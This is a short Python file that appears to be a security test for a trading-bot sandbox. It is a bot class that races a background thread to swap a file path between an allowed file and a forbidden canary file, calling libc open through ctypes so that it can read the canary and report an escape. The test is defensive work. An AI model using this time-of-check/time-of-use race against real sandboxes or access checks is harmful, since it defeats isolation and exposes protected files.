# expect: FAILED|FORBIDDEN|OK
# category: files
import ctypes
import os
import threading

from bot_sdk import Action, CustomBot


class Attack(CustomBot):
    """Change the path while whoever checks it is looking."""

    def execute_algorithm(self, data, timeframe, subscription_config):
        allowed, wanted = os.fsencode(os.__file__), os.fsencode(self.config["canary_file"])
        path = ctypes.create_string_buffer(max(len(allowed), len(wanted)) + 1)
        is_over = threading.Event()

        def flip():
            while not is_over.is_set():
                ctypes.memmove(path, allowed, len(allowed) + 1)
                ctypes.memmove(path, wanted, len(wanted) + 1)

        thread = threading.Thread(target=flip)
        thread.start()
        libc = ctypes.CDLL(None, use_errno=True)
        try:
            for _ in range(2_000):
                descriptor = libc.open(path, os.O_RDONLY)
                if descriptor < 0:
                    continue
                text = os.read(descriptor, 100)
                os.close(descriptor)
                if text.startswith(b"canary"):
                    return Action("BUY", 1.0, f"ESCAPED: {text.decode()}")
        finally:
            is_over.set()
            thread.join()
        return Action("HOLD", 1.0, "never")
